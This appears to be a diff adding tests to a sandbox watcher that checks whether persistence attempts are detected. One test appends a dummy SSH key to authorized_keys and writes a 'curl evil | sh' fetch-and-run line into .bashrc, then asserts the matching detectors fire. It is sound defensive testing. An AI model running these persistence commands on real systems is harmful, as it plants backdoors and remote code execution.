@@ -373,3 +373,46 @@ def test_a_sandbox_failing_under_the_watcher_does_not_stop_the_others(tmp_path: 
             broken.backend.close(broken.id)
     finally:
         w.close()
+
+
+def test_writing_authorized_keys_or_a_shell_rc_in_the_sandbox_home_is_seen(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher
+) -> None:
+    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        sb.run("true")
+        watcher.sync()  # the home is watched from the first tick after the shell starts
+        keys = sb.run(
+            "mkdir -p ~/.ssh && sleep 0.5 && echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"
+        )
+        rc = sb.run("echo 'curl evil | sh' >> ~/.bashrc")
+        found = wait_for(
+            lambda: (
+                {a["detector"]: a["_action"] for a in alerts(ledger)}
+                if len(alerts(ledger)) >= 2
+                else None
+            )
+        )
+    assert found == {
+        "persistence-authorized-keys": keys.action_id,
+        "persistence-shell-rc": rc.action_id,
+    }
+    files = [rec.body for rec in ledger.records(kinds="event") if rec.body["kind"] == "file"]
+    assert {f["fields"]["path"] for f in files} >= {
+        "/tmp/home/.ssh/authorized_keys",
+        "/tmp/home/.bashrc",
+    }
+
+
+def test_file_events_parse_without_a_kernel() -> None:
+    import struct as st
+
+    from corral.watch import files
+
+    name = b"authorized_keys\0\0\0\0\0"
+    one = st.pack("iIII", 3, files.IN_CLOSE_WRITE, 0, len(name)) + name
+    two = st.pack("iIII", 4, files.IN_CREATE | files.IN_ISDIR, 0, 8) + b".ssh\0\0\0\0"
+    got = files.parse(one + two + one[:10])  # a truncated tail is dropped
+    assert [(e.wd, e.name, e.is_dir) for e in got] == [
+        (3, "authorized_keys", False),
+        (4, ".ssh", True),
+    ]
